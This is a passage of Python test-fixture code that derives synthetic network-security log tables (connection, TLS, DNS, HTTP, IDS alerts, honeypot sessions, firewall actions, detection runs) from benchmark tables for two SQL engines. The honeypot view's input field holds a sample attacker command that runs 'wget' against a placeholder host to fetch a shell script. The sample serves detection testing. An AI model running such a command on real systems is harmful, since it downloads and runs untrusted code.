"""Network-log tables derived from the test tables, written once and read by both engines.

The test data holds no network logs, so each log table is a projection of a given table and grows with it. The
expressions keep to SQL both engines share; the few spellings that differ are marked with upper-case tokens.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from pyspark.sql import DataFrame, SparkSession

TOKENS = {
    "TS(": ("timestamp_micros(", "make_timestamp("),
    "US(": ("unix_micros(timestamp ", "epoch_us("),
    " DIV ": (" div ", " // "),
    "ARR(": ("array(", "list_value("),
    "NOTEXT()": ("CAST(array() AS ARRAY<STRING>)", "CAST([] AS VARCHAR[])"),
    "HEX2(": ("format_string('%02x', ", "format('{:02x}', "),
}
DAY0 = 1704067200000000  # 2024-01-01 00:00:00 UTC in microseconds


def _spell(text: str, engine: int) -> str:
    for token, spellings in TOKENS.items():
        text = text.replace(token, spellings[engine])
    if engine == 0:
        text = re.sub(r"unix_micros\(timestamp ([a-z_]+)\)", r"unix_micros(CAST(\1 AS TIMESTAMP))", text)
    return text


@dataclass(frozen=True)
class Part:
    table: str
    columns: dict[str, str]
    where: str | None = None


VIEWS: dict[str, list[Part]] = {}


def view(view_name: str, table: str, where: str | None = None, /, **columns: str) -> None:
    VIEWS.setdefault(view_name, []).append(Part(table, columns, where))


def spark_view(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    out = None
    for part in VIEWS[name]:
        rows = spark.read.parquet(f"{sf_dir}/{part.table}.parquet")
        if part.where:
            rows = rows.where(_spell(part.where, 0))
        rows = rows.selectExpr(*[f"{_spell(e, 0)} AS {c}" for c, e in part.columns.items()])
        out = rows if out is None else out.unionByName(rows)
    return out


def duck_view(name: str) -> str:
    selects = []
    for part in VIEWS[name]:
        columns = ", ".join(f"{_spell(e, 1)} AS {c}" for c, e in part.columns.items())
        selects.append(f"SELECT {columns} FROM {part.table}" + (f" WHERE {_spell(part.where, 1)}" if part.where else ""))
    return " UNION ALL ".join(selects)


def with_views(sql: str) -> str:
    """The statement with every derived table it mentions as a leading common table expression."""
    used = [n for n in VIEWS if re.search(rf"\b{n}\b", sql)]
    if not used:
        return sql
    heads = ", ".join(f"{n} AS ({duck_view(n)})" for n in used)
    body = sql.lstrip()
    if body[:5].upper() == "WITH ":
        return f"WITH {heads}, {body[5:]}"
    return f"WITH {heads} {body}"


# --- connections -----------------------------------------------------------------------------------------------------

_L_TS = "US(l_shipdate) + ((l_orderkey * 37 + l_linenumber) % 86400) * 1000000 + (l_orderkey % 1000) * 1000"
_FLAGS = "l_returnflag || l_linestatus"
_INSIDE = "'10.' || CAST(l_suppkey DIV 250 % 200 AS STRING) || '.2.' || CAST(l_suppkey % 250 AS STRING)"
_OUTSIDE = (
    "CASE WHEN l_suppkey % 2 = 0 THEN '203.0.113.' || CAST(l_partkey % 4 AS STRING) "
    "ELSE '198.18.' || CAST(l_partkey DIV 250 % 250 AS STRING) || '.' || CAST(l_partkey % 250 AS STRING) END"
)
_VISITOR = "CAST(40 + l_suppkey % 150 AS STRING) || '.' || CAST(l_suppkey DIV 150 % 250 AS STRING) || '.7.' || CAST(l_suppkey % 250 AS STRING)"
view(
    "conn", "lineitem",
    ts=f"TS({_L_TS})",
    uid="'L' || CAST(l_orderkey AS STRING) || '-' || CAST(l_linenumber AS STRING)",
    id_orig_h=f"CASE WHEN l_linenumber = 6 THEN {_VISITOR} ELSE {_INSIDE} END",
    id_orig_p="CAST(1024 + l_orderkey % 60000 AS INT)",
    id_resp_h=f"CASE WHEN l_linenumber = 6 THEN '10.128.0.' || CAST(l_partkey % 5 AS STRING) WHEN l_linenumber = 7 THEN '10.9.9.' || CAST(l_partkey % 40 AS STRING) ELSE {_OUTSIDE} END",
    id_resp_p="CAST(CASE WHEN l_linenumber = 6 THEN CASE WHEN l_orderkey % 2 = 0 THEN 22 ELSE 80 END WHEN l_suppkey % 2 = 0 THEN 1 + l_orderkey % 1000 ELSE 20 + l_linenumber END AS INT)",
    proto="CASE WHEN l_linenumber = 4 AND l_orderkey % 3 = 0 THEN 'udp' ELSE 'tcp' END",
    service="CASE l_linenumber WHEN 1 THEN 'ssl' WHEN 2 THEN 'http' WHEN 3 THEN 'ssh' WHEN 4 THEN 'dns' WHEN 5 THEN '' WHEN 6 THEN 'ssh' ELSE 'ssl,http,-gssapi' END",
    duration="l_quantity * 180",
    orig_bytes="CAST(floor(l_quantity * 100000) AS BIGINT)",
    resp_bytes="CAST(floor(l_extendedprice) AS BIGINT)",
    conn_state=f"CASE {_FLAGS} WHEN 'AF' THEN 'REJ' WHEN 'NF' THEN 'SF' WHEN 'RO' THEN 'RSTO' ELSE 'S0' END",
    local_orig="l_linenumber <> 6",
    local_resp="l_linenumber >= 6",
    history=f"CASE {_FLAGS} WHEN 'AF' THEN 'Sr' WHEN 'NF' THEN 'ShADadFf' ELSE 'S' END",
    orig_ip_bytes="CAST(floor(l_quantity * 100000) AS BIGINT) + 60",
    resp_ip_bytes="CAST(floor(l_extendedprice) AS BIGINT) + 40",
    community_id="'1:' || md5(CAST(l_orderkey AS STRING) || '-' || CAST(l_linenumber AS STRING))",
)

_O_TS = f"{DAY0} + (o_orderkey * 60 + o_custkey % (1 + 30 * (o_orderkey % 10))) * 1000000"
_O_ENDS = dict(
    id_orig_h="'10.0.1.' || CAST(o_orderkey % 10 AS STRING)", id_orig_p="CAST(1024 + o_orderkey % 60000 AS INT)",
    id_resp_h="'198.51.100.' || CAST(o_orderkey % 10 AS STRING)", id_resp_p="CAST(443 AS INT)",
)
view(
    "conn_o", "orders", ts=f"TS({_O_TS})", uid="'C' || CAST(o_orderkey AS STRING)", **_O_ENDS, proto="'tcp'", service="'ssl'",
    duration="CAST(o_custkey % 90 AS DOUBLE)", orig_bytes="500 + o_custkey % 16", resp_bytes="900 + o_custkey % 400", conn_state="'SF'",
    local_orig="o_orderkey >= 0", local_resp="o_orderkey < 0", history="'ShADadFf'",
)
# A second log line for some connections, so that "at most one name per connection" matters.
_NAME = "CASE WHEN o_custkey % 50 = 0 THEN '' ELSE 'host' || CAST(o_custkey % 50 AS STRING) || '.svc' || CAST(o_custkey % 3 AS STRING) || '.example.com' END"
_MARK = "CASE WHEN o_custkey % 100 = 7 THEN 'r1' || CAST(o_orderkey AS STRING) WHEN o_custkey % 100 = 8 THEN 'r2' || CAST(o_orderkey DIV 40 AS STRING) ELSE 'c' || CAST(o_custkey % 20 AS STRING) END"
for _again, _where in (("", None), ("alt.", "o_custkey % 5 = 0")):
    view(
        "ssl", "orders", _where, ts=f"TS({_O_TS} + 500000)", uid="'C' || CAST(o_orderkey AS STRING)", **_O_ENDS,
        server_name=f"'{_again}' || {_NAME}" if _again else _NAME,
        ja4=f"CASE WHEN o_custkey % 31 = 0 THEN '' ELSE 't13d' || substr(md5({_MARK}), 1, 12) END", ja3=f"md5('3' || {_MARK})",
        validation_status="CASE o_custkey % 50 % 6 WHEN 1 THEN 'self signed certificate' WHEN 2 THEN 'ok' WHEN 3 THEN '' WHEN 4 THEN 'unable to get local issuer certificate' WHEN 5 THEN 'Self-Signed Certificate' ELSE 'certificate has expired' END",
        cert_chain_fps="CASE WHEN o_custkey % 50 % 3 = 0 THEN NOTEXT() ELSE ARR(md5(CAST(o_custkey AS STRING))) END",
        sni_matches_cert="o_custkey % 50 % 4 <> 1", subject="'CN=s' || CAST(o_custkey % 50 AS STRING)",
        issuer="CASE WHEN o_custkey % 4 = 0 THEN '' ELSE 'CN=ca' || CAST(o_custkey % 5 AS STRING) END",
    )

# --- DNS and HTTP ----------------------------------------------------------------------------------------------------

_HOST = "regexp_extract(url, '^[a-z]+://([^/:?#]+)', 1)"
_TUNNEL = "lower(md5(text)) || '.' || CAST(doc_id % 97 AS STRING) || '.tunnel' || CAST(doc_id % 5 AS STRING) || '.test'"
view(
    "dns", "documents", ts=f"TS({DAY0} + doc_id * 30000000)", uid="'D' || CAST(doc_id AS STRING)", id_orig_h="'10.0.3.' || CAST(doc_id % 5 AS STRING)",
    id_resp_h="'10.0.0.' || CAST(53 + doc_id % 2 AS STRING)", query=f"CASE WHEN doc_id % 5 = 1 THEN 'x' || substr(md5(text), 1, 12) || CAST(doc_id AS STRING) || '.com' ELSE {_TUNNEL} END",
    qtype_name="CASE doc_id % 3 WHEN 0 THEN 'A' WHEN 1 THEN 'TXT' ELSE 'AAAA' END",
    rcode_name="CASE WHEN doc_id % 5 = 1 OR doc_id % 7 = 0 THEN 'NXDOMAIN' WHEN doc_id % 11 = 0 THEN '' ELSE 'NOERROR' END",
)
view(
    "dns", "pages", ts=f"TS({DAY0} + page_id * 45000000)", uid="'P' || CAST(page_id AS STRING)", id_orig_h="'10.0.4.' || CAST(page_id % 9 AS STRING)",
    id_resp_h="'10.0.0.53'", query=_HOST, qtype_name="CASE page_id % 4 WHEN 0 THEN 'AAAA' ELSE 'A' END",
    rcode_name="CASE WHEN page_id % 13 = 0 THEN 'NXDOMAIN' ELSE 'NOERROR' END",
)
view(
    "http", "pages", ts=f"TS({DAY0} + page_id * 45000000 + 20000)", uid="'P' || CAST(page_id AS STRING)", id_orig_h="'10.0.4.' || CAST(page_id % 9 AS STRING)",
    id_resp_h="'93.184.216.' || CAST(page_id % 30 AS STRING)", method="'GET'", host=_HOST, uri="regexp_extract(url, '^[a-z]+://[^/]+(/[^?#]*)', 1)",
)

# --- alerts, honeypot, engine counters -------------------------------------------------------------------------------

_USER_IP = "CAST(40 + user_id % 150 AS STRING) || '.' || CAST(user_id DIV 150 % 250 AS STRING) || '.7.' || CAST(user_id % 250 AS STRING)"
_CC = "CASE user_id % 7 WHEN 0 THEN '' WHEN 1 THEN 'NL' WHEN 2 THEN 'KR' WHEN 3 THEN 'BR' WHEN 4 THEN 'US' WHEN 5 THEN 'VN' ELSE 'DE' END"
_COUNTRY = "CASE user_id % 7 WHEN 0 THEN '' WHEN 1 THEN 'Netherlands' WHEN 2 THEN 'Korea' WHEN 3 THEN 'Brazil' WHEN 4 THEN 'United States' WHEN 5 THEN 'Vietnam' ELSE 'Germany' END"
_GEO = dict(
    src_country_code=_CC, src_country=_COUNTRY, src_asn="CASE WHEN user_id % 11 = 0 THEN 0 ELSE 64500 + user_id % 40 END",
    src_as_org="CASE WHEN user_id % 11 = 0 THEN '' ELSE 'Network operator with a long name no ' || CAST(user_id % 40 AS STRING) END",
)
view(
    "alert", "events", timestamp="TS(US(ts))", loaded_at="TS(US(ts) + event_id % 9000 * 1000)", src_ip=_USER_IP, dest_ip="CASE WHEN event_id % 9 = 0 THEN '8.8.8.8' ELSE '10.128.0.' || CAST(event_id % 4 AS STRING) END",
    dest_port="CAST(CASE event_id % 3 WHEN 0 THEN 80 WHEN 1 THEN 22 ELSE 443 END AS INT)", in_iface="CASE WHEN event_id % 20 = 0 THEN 'replay0' ELSE 'ens4' END",
    app_proto="CASE event_id % 3 WHEN 0 THEN 'http' WHEN 1 THEN 'ssh' ELSE 'tls' END", alert_gid="CAST(1 AS BIGINT)", alert_signature_id="2000000 + event_id % 100",
    alert_signature="'Signature no ' || CAST(event_id % 100 AS STRING)", alert_severity="CAST(event_id % 3 + 1 AS INT)",
    alert_metadata_mitre_technique_id="CASE event_id % 4 WHEN 0 THEN NOTEXT() WHEN 1 THEN ARR('T1190') WHEN 2 THEN ARR('T1595.002', 'T1046') ELSE ARR('T' || CAST(1500 + event_id % 10 AS STRING)) END",
    http_url="CASE WHEN event_id % 3 <> 0 THEN '' WHEN event_id % 6 = 0 THEN '/api/ds/query?q=' || CAST(event_id % 5 AS STRING) ELSE '/login/' || CAST(event_id % 8 AS STRING) END",
    community_id="'1:' || md5(CAST(event_id AS STRING))", **_GEO,
)
_EVENTID = (
    "CASE event_type WHEN 'error' THEN 'cowrie.login.failed' WHEN 'signup' THEN 'cowrie.login.success' WHEN 'click' THEN 'cowrie.command.input' "
    "WHEN 'purchase' THEN CASE event_id % 2 WHEN 0 THEN 'cowrie.session.file_download' ELSE 'cowrie.session.file_upload' END "
    "ELSE CASE event_id % 3 WHEN 0 THEN 'cowrie.session.connect' WHEN 1 THEN 'cowrie.client.kex' ELSE 'cowrie.client.version' END END"
)
_LOGIN = "event_type IN ('error', 'signup')"
view(
    "cowrie", "events", timestamp="TS(US(ts))", eventid=_EVENTID, session=f"'s' || CAST(user_id AS STRING) || '-' || CAST((US(ts) - {DAY0}) DIV 86400000000 AS STRING)",
    src_ip=_USER_IP, username=f"CASE WHEN {_LOGIN} THEN 'user' || CAST(event_id % 13 AS STRING) ELSE '' END",
    password=f"CASE WHEN {_LOGIN} THEN 'pw' || CAST(event_id % 29 AS STRING) ELSE '' END", input="CASE WHEN event_type = 'click' THEN 'uname -a; wget http://mirror.example.org/pack' || CAST(event_id % 17 AS STRING) || '.sh' ELSE '' END",
    client_version="CASE WHEN event_type = 'view' AND event_id % 3 = 2 THEN 'SSH-2.0-client_' || CAST(user_id % 6 AS STRING) ELSE '' END",
    hassh="CASE WHEN event_type = 'view' AND event_id % 3 = 1 THEN md5('h' || CAST(user_id % 12 AS STRING)) ELSE '' END",
    shasum="CASE WHEN event_type = 'purchase' AND event_id % 5 <> 0 THEN md5(CAST(event_id % 50 AS STRING)) ELSE '' END",
    message="CASE WHEN event_type = 'purchase' THEN 'Saved file \"bin' || CAST(event_id % 6 AS STRING) || '\" from source' ELSE 'event ' || CAST(event_id AS STRING) END", **_GEO,
)
_UP = "(US(ts) DIV 1000000) % 864000"
view(
    "stats", "events", timestamp="TS(US(ts))", stats_uptime=_UP, stats_capture_kernel_packets=f"{_UP} * 120 + 7", stats_capture_kernel_drops=f"{_UP} DIV 40",
    stats_detect_alerts_suppressed=f"{_UP} DIV 10",
)
view(
    "metrics", "events", timestamp="TS(US(ts))",
    name="CASE event_type WHEN 'error' THEN 'component_errors_total' WHEN 'view' THEN 'buffer_events' WHEN 'click' THEN 'memory_pages' ELSE 'utilization' END", value="value",
)

# --- reference and state tables --------------------------------------------------------------------------------------

view(
    "allowlist", "supplier", id="'TUNE-' || CAST(100 + s_suppkey % 900 AS STRING)",
    detection_id="CASE s_suppkey % 12 WHEN 10 THEN '*' WHEN 11 THEN 'DET-109' WHEN 9 THEN 'DET-101' ELSE 'DET-10' || CAST(1 + s_suppkey % 12 AS STRING) END",
    match_type="CASE s_suppkey % 4 WHEN 0 THEN 'dst_ip' WHEN 1 THEN 'sni_suffix' WHEN 2 THEN 'dst_cidr' ELSE 'sni' END",
    value=(
        "CASE s_suppkey % 4 WHEN 0 THEN CASE WHEN s_suppkey % 8 = 0 THEN '198.18.0.' || CAST(s_suppkey % 250 AS STRING) ELSE '203.0.113.' || CAST(s_suppkey % 3 AS STRING) END "
        "WHEN 1 THEN '.' || CASE WHEN s_suppkey % 8 = 1 THEN 'svc' || CAST(s_suppkey % 3 AS STRING) || '.example.com' ELSE 'x' || CAST(s_suppkey AS STRING) || '.example.com' END "
        "WHEN 2 THEN CASE WHEN s_suppkey % 24 = 2 THEN '198.51.100.' || CAST(s_suppkey DIV 24 % 10 AS STRING) || '/32' ELSE '198.18.' || CAST(s_suppkey % 7 AS STRING) || '.0/24' END ELSE 'host' || CAST(s_suppkey % 50 AS STRING) || '.svc' || CAST(s_suppkey % 3 AS STRING) || '.example.com' END"
    ),
    reason="s_name", expires_at="TS(1640995200000000 + s_suppkey % 40 * 86400000000 * 60)", enabled="s_suppkey % 5 <> 0",
)
view(
    "lab_addresses", "supplier", address="CAST(40 + s_suppkey * 3 % 150 AS STRING) || '.0.7.' || CAST(s_suppkey * 3 % 150 AS STRING)",
    role="CASE s_suppkey % 3 WHEN 0 THEN 'sensor' ELSE 'other' END", note="s_name", added=f"TS({DAY0} + s_suppkey * 1000000)",
)
view(
    "countries", "supplier", lo="'4' || HEX2(40 + s_suppkey % 150) || HEX2(s_suppkey DIV 150 % 250) || '0000'", hi="'4' || HEX2(40 + s_suppkey % 150) || HEX2(s_suppkey DIV 150 % 250) || 'ffff'",
    a1="40 + s_suppkey % 150", a2="s_suppkey DIV 150 % 250", country_code="'C' || CAST(s_nationkey AS STRING)", country="'Country ' || CAST(s_nationkey AS STRING)",
)
view(
    "networks", "supplier", lo="'4' || HEX2(40 + s_suppkey % 150) || HEX2(s_suppkey DIV 150 % 250) || '0700'",
    hi="'4' || HEX2(40 + s_suppkey % 150) || HEX2(s_suppkey DIV 150 % 250) || '0763'", a1="40 + s_suppkey % 150", a2="s_suppkey DIV 150 % 250",
    asn="64500 + s_suppkey", as_org="s_name",
)
_MODE = "CASE WHEN event_id % 97 = 0 THEN 'test' WHEN event_id % 5 = 0 THEN 'dry-run' ELSE 'enforce' END"
_TRIGGER = "CASE event_id % 4 WHEN 0 THEN 'honeypot' WHEN 1 THEN 'suricata' WHEN 2 THEN 'scanner' ELSE 'manual' END"
view(
    "actions", "events", created_at="TS(US(ts) DIV 1000 * 1000)",
    action="CASE event_type WHEN 'signup' THEN 'block' WHEN 'purchase' THEN 'block' WHEN 'error' THEN 'release' WHEN 'click' THEN 'observe' ELSE 'reject' END",
    ip=_USER_IP, trigger=_TRIGGER, rule="'RSP-00' || CAST(1 + event_id % 3 AS STRING)",
    reason="CASE WHEN event_type <> 'view' THEN 'reason ' || CAST(event_id % 3 AS STRING) WHEN event_id % 3 = 0 THEN 'never-block: office (' || CAST(event_id AS STRING) || ')' WHEN event_id % 3 = 1 THEN 'suppressed by an analyst release until 2024-02-0' || CAST(event_id % 9 AS STRING) ELSE 'not a public address' END",
    evidence_at="CASE WHEN event_id % 4 = 3 THEN NULL ELSE TS((US(ts) DIV 1000 - event_id % 600000) * 1000) END",
    expires_at="CASE WHEN event_type IN ('signup', 'purchase') THEN TS(US(ts) DIV 1000 * 1000 + event_id % 40 * 86400000000) WHEN event_type = 'error' AND event_id % 2 = 0 THEN TS(US(ts) DIV 1000 * 1000 + 5184000000000) ELSE NULL END",
    mode=_MODE, actor="CASE WHEN event_id % 4 = 3 THEN 'analyst' ELSE 'responder' END",
    detail="'{\"startsAt\": \"' || CAST(TS((US(ts) DIV 1000000 - event_id % 2400) * 1000000) AS STRING) || '\"}'",
)
view(
    "applies", "events", applied_at="TS((US(ts) DIV 1000 + 30000 + event_id % 60000) * 1000)", firewall="'blocklist'", mode=_MODE,
    result="CASE WHEN event_id % 9 = 0 THEN 'error' WHEN event_id % 5 = 0 THEN 'dry-run' ELSE 'ok' END",
    ranges=f"ARR({_USER_IP} || '/32')", added=f"CASE WHEN event_type = 'view' THEN NOTEXT() ELSE ARR({_USER_IP} || '/32', '192.0.2.' || CAST(event_id % 7 AS STRING) || '/32') END",
    removed=f"CASE WHEN event_type = 'view' THEN ARR({_USER_IP} || '/32') ELSE NOTEXT() END", duration_ms="event_id % 3000",
    error="CASE WHEN event_id % 9 = 0 THEN 'timed out' ELSE '' END",
)
view(
    "verdicts", "events", created_at="TS(US(ts) + 3600000000)", source="CASE WHEN event_type = 'purchase' THEN 'detection' ELSE 'suricata' END",
    subject=f"CASE WHEN event_type = 'purchase' THEN 'DET-10' || CAST(1 + event_id % 9 AS STRING) || '|10.0.9.' || CAST(user_id % 50 AS STRING) || '|198.51.100.' || CAST(user_id % 20 AS STRING) || '|443' ELSE CAST(2000000 + event_id % 100 AS STRING) || '|' || {_USER_IP} END",
    verdict="CASE WHEN event_id % 4 = 0 THEN 'false_positive' ELSE 'true_positive' END", analyst="'analyst' || CAST(event_id % 3 AS STRING)",
    tune_id="CASE WHEN event_id % 6 = 0 THEN 'TUNE-' || CAST(100 + event_id % 900 AS STRING) ELSE '' END", note="'note ' || CAST(event_id AS STRING)",
)
view(
    "hits", "orders", run_id="md5(CAST(o_orderdate AS STRING))", run_at="TS(US(o_orderdate) - US(o_orderdate) % 2592000000000)", detection_id="'DET-10' || CAST(1 + o_orderkey % 9 AS STRING)",
    severity="CASE o_custkey % 3 WHEN 0 THEN 'high' ELSE 'medium' END", src="'10.0.9.' || CAST(o_custkey % 50 AS STRING)", dst="'198.51.100.' || CAST(o_custkey % 20 AS STRING)",
    dst_port="CAST(443 AS INT)", score="CAST(o_custkey % 1000 AS DOUBLE) / 1000", summary="'finding ' || CAST(o_orderkey AS STRING)",
    hit_key="'DET-10' || CAST(1 + o_orderkey % 9 AS STRING) || '|10.0.9.' || CAST(o_custkey % 50 AS STRING) || '|198.51.100.' || CAST(o_custkey % 20 AS STRING) || '|443'",
)
view(
    "runs", "orders", run_id="md5(CAST(o_orderdate AS STRING))", run_at="TS(US(o_orderdate) + o_orderkey * 1000000)", detection_id="'DET-10' || CAST(1 + o_orderkey % 9 AS STRING)",
    result="CASE WHEN o_custkey % 17 = 0 THEN 'error' ELSE 'ok' END", hits="o_custkey % 40", duration_ms="100 + o_custkey % 900", backfill="o_custkey % 5 = 0",
)
view(
    "validation_runs", "orders", run_id="md5(CAST(o_orderdate AS STRING))", case_name="'case-' || CAST(o_custkey % 4 AS STRING)", attack_technique="'T' || CAST(1000 + o_custkey % 4 AS STRING)",
    started_at="TS(US(o_orderdate) + o_orderkey * 1000000)", result="CASE WHEN o_custkey % 6 = 0 THEN 'FAIL' ELSE 'PASS' END", mttd_ms="CASE WHEN o_custkey % 6 = 0 THEN NULL ELSE 80 + o_custkey % 97 END",
    visible_ms="CASE WHEN o_custkey % 6 = 0 THEN NULL ELSE 3000 + o_custkey % 4001 END", rules_loaded="50000 + o_custkey % 7",
)
view(
    "coverage", "part", technique_id="'T' || CAST(1000 + p_partkey AS STRING)", name="p_name", tactic="p_type", in_target="p_size % 3 <> 0",
    status="CASE p_size % 4 WHEN 0 THEN 'gap' WHEN 1 THEN 'observed' ELSE 'validated' END", detections="ARR('DET-10' || CAST(1 + p_size % 9 AS STRING), p_brand)", observed_by="CASE WHEN p_size % 2 = 0 THEN NOTEXT() ELSE ARR(p_brand) END",
)
view("candidates", "customer", domain="'name' || CAST(c_custkey AS STRING) || '.test'", klass="c_mktsegment")
view(
    "checks", "orders", domain="'name' || CAST(o_custkey * 3 AS STRING) || '.test'", status="CASE o_orderstatus WHEN 'F' THEN 'found' WHEN 'O' THEN 'absent' ELSE 'error' END",
    checked_at="TS(US(o_orderdate) + o_orderkey % 86400 * 1000000)",
)
view(
    "lookalikes", "supplier", domain="'name' || CAST(s_suppkey * 3 AS STRING) || '.test'", display="s_name", brand="'brand' || CAST(s_suppkey % 5 AS STRING)", klass="'class' || CAST(s_suppkey % 4 AS STRING)",
    score="s_suppkey % 37", tier="CASE s_suppkey % 4 WHEN 0 THEN 'review' WHEN 1 THEN 'watch' WHEN 2 THEN 'weak' ELSE 'noise' END", reasons="ARR('reason' || CAST(s_suppkey % 3 AS STRING), 'other')",
)
view("certificates", "lineitem", candidate="'name' || CAST(l_suppkey * 3 AS STRING) || '.test'", not_before="TS(US(l_shipdate))", issuer_name="'CA ' || CAST(l_linenumber AS STRING)")

# Runs at the same times as the stored findings, so that "the newest run" has findings.
view("hits_runs", "orders", run_at="TS(US(o_orderdate) - US(o_orderdate) % 2592000000000)", backfill="o_custkey % 5 = 0")
# Connection records of the flows that raised alerts.
view("conn_flow", "events", ts="TS(US(ts) - 250000)", uid="'E' || CAST(event_id AS STRING)", conn_state="'SF'", community_id="'1:' || md5(CAST(event_id AS STRING))")
_FAR = "CASE WHEN l_linenumber = 7 THEN '' WHEN l_linenumber = 6 THEN " + _VISITOR + " ELSE " + _OUTSIDE + " END"
view(
    "conn_geo", "lineitem", ts=f"TS({_L_TS})", direction="CASE WHEN l_linenumber = 6 THEN 'inbound' WHEN l_linenumber = 7 THEN 'internal' ELSE 'outbound' END", remote_ip=_FAR,
    remote_country_code="CASE WHEN l_suppkey % 9 = 0 THEN '' ELSE 'C' || CAST(l_suppkey % 25 AS STRING) END", remote_country="CASE WHEN l_suppkey % 9 = 0 THEN '' ELSE 'Country ' || CAST(l_suppkey % 25 AS STRING) END",
)

# --- raw log lines ---------------------------------------------------------------------------------------------------

_US = "US(ts)"
_EPOCH = f"CAST({_US} DIV 1000000 AS STRING) || '.' || lpad(CAST({_US} % 1000000 AS STRING), 6, '0')"
_ID = "CAST(event_id AS STRING)"
view(
    "raw_conn", "events",
    value=(
        "CASE event_id % 50 WHEN 0 THEN '{\"ts\": 17, broken' WHEN 1 THEN '{\"uid\": \"nothing\"}' ELSE "
        f"'{{\"ts\": ' || {_EPOCH} || ', \"uid\": \"U' || {_ID} || '\", \"id.orig_h\": \"' || {_USER_IP} || '\", \"id.orig_p\": ' || CAST(1024 + event_id % 5000 AS STRING) || "
        "', \"id.resp_h\": \"10.128.0.' || CAST(event_id % 4 AS STRING) || '\", \"id.resp_p\": 22, \"proto\": \"tcp\"' || "
        "CASE WHEN event_id % 3 = 0 THEN '' ELSE ', \"local_orig\": ' || CASE WHEN event_id % 3 = 1 THEN 'false' ELSE 'true' END END || "
        "CASE WHEN event_id % 5 = 0 THEN ', \"local_resp\": false' ELSE '' END || CASE WHEN event_id % 2 = 0 THEN ', \"orig_bytes\": ' || CAST(event_id AS STRING) ELSE '' END || '}' END"
    ),
)
_ISO = f"substr(CAST(TS({_US}) AS STRING), 1, 10) || 'T' || substr(CAST(TS({_US}) AS STRING), 12, 8) || '.' || lpad(CAST({_US} % 1000000 AS STRING), 6, '0')"
view(
    "raw_eve", "events",
    value=(
        f"CASE WHEN event_id % 40 = 0 THEN '{{broken' WHEN event_type = 'view' THEN '{{\"event_type\": \"flow\", \"timestamp\": \"' || {_ISO} || '+0000\"}}' ELSE "
        f"'{{\"timestamp\": \"' || {_ISO} || '+0000\", \"event_type\": \"alert\", \"src_ip\": \"' || {_USER_IP} || '\", \"dest_ip\": \"10.128.0.2\", \"dest_port\": 80, \"in_iface\": \"ens4\", "
        "\"alert\": {\"gid\": 1, \"signature_id\": ' || CAST(2000000 + event_id % 100 AS STRING) || ', \"signature\": \"S ' || CAST(event_id % 100 AS STRING) || '\", \"severity\": ' || CAST(event_id % 3 + 1 AS STRING) || "
        f"', \"metadata\": {{\"mitre_technique_id\": [\"T1190\", \"T1046\"]}}}}, \"flow\": {{\"start\": \"' || {_ISO} || '+0000\", \"bytes_toserver\": ' || {_ID} || '}}}}' END"
    ),
)
view(
    "raw_cowrie", "events",
    value=(
        f"CASE WHEN event_id % 30 = 0 THEN 'not json' WHEN event_id % 30 = 1 THEN '{{\"eventid\": \"other.thing\", \"timestamp\": \"' || {_ISO} || 'Z\"}}' ELSE "
        f"'{{\"eventid\": \"' || {_EVENTID} || '\", \"timestamp\": \"' || {_ISO} || 'Z\", \"src_ip\": \"' || {_USER_IP} || '\", \"src_port\": ' || CAST(event_id % 60000 AS STRING) || "
        "', \"username\": \"user' || CAST(event_id % 13 AS STRING) || '\", \"version\": \"SSH-2.0\", \"extra\": {\"x\": 1}}' END"
    ),
)
view(
    "raw_metrics", "events",
    value=(
        "'{\"name\": \"' || CASE event_type WHEN 'error' THEN 'component_errors_total' WHEN 'view' THEN 'buffer_events' WHEN 'click' THEN 'memory_pages' ELSE 'utilization' END || '\", "
        f"\"timestamp\": \"' || {_ISO} || 'Z\", ' || CASE WHEN event_id % 3 = 0 THEN '\"counter\": {{\"value\": ' || {_ID} || '}}' WHEN event_id % 3 = 1 THEN '\"gauge\": {{\"value\": 0.5}}' ELSE '\"set\": {{}}' END || '}}'"
    ),
)
view(
    "hello", "orders", uid="'C' || CAST(o_orderkey DIV 2 AS STRING)", seq="CAST(o_orderkey % 2 AS INT)", version="CAST(CASE WHEN o_custkey % 7 = 0 THEN 769 ELSE 771 END AS INT)",
    ciphers="ARR(CAST(2570 AS INT), CAST(4865 + o_custkey % 3 AS INT), CAST(49195 + o_custkey % 5 AS INT))",
    extensions="ARR(CAST(0 + o_custkey % 2 AS INT), CAST(16 AS INT), CAST(43 AS INT), CAST(10 AS INT), CAST(6682 AS INT))", curves="ARR(CAST(29 AS INT), CAST(23 AS INT))", point_formats="ARR(CAST(0 AS INT))",
    sig_algs="ARR(CAST(1027 AS INT), CAST(2052 + o_custkey % 4 AS INT))", supported_versions="ARR(CAST(2570 AS INT), CAST(CASE WHEN o_custkey % 7 = 0 THEN 771 ELSE 772 END AS INT))",
    alpn="CASE o_custkey % 4 WHEN 0 THEN 'h2' WHEN 1 THEN 'http/1.1' WHEN 2 THEN '' ELSE '-x-' END",
)
view(
    "allow_text", "customer", id="CASE WHEN c_custkey % 20 = 0 THEN 'BAD-1' ELSE 'TUNE-' || CAST(100 + c_custkey % 900 AS STRING) END",
    detection_id="CASE WHEN c_custkey % 23 = 0 THEN 'DET-999' ELSE 'DET-10' || CAST(1 + c_custkey % 9 AS STRING) END",
    match_type="CASE c_custkey % 5 WHEN 0 THEN 'dst_ip' WHEN 1 THEN 'dst_cidr' WHEN 2 THEN 'sni' WHEN 3 THEN 'sni_suffix' ELSE CASE WHEN c_custkey % 3 = 0 THEN 'port' ELSE 'dst_ip' END END",
    value="CASE c_custkey % 5 WHEN 1 THEN '10.' || CAST(c_custkey % 300 AS STRING) || '.0.0/16' WHEN 2 THEN 'Host' || CAST(c_custkey AS STRING) || '.example.com' WHEN 3 THEN CASE WHEN c_custkey % 2 = 0 THEN '.' ELSE '' END || 'x.example.com' ELSE '192.0.2.' || CAST(c_custkey % 300 AS STRING) END",
    reason="CASE WHEN c_custkey % 37 = 0 THEN ' ' ELSE c_name END", expires_at="CASE WHEN c_custkey % 29 = 0 THEN 'soon' ELSE '2030-01-01 00:00:00' END", enabled="CASE WHEN c_custkey % 31 = 0 THEN 'yes' ELSE 'true' END",
)
view(
    "verdict_text", "events", source="CASE event_id % 4 WHEN 0 THEN 'suricata' WHEN 1 THEN 'detection' WHEN 2 THEN 'suricata' ELSE 'other' END",
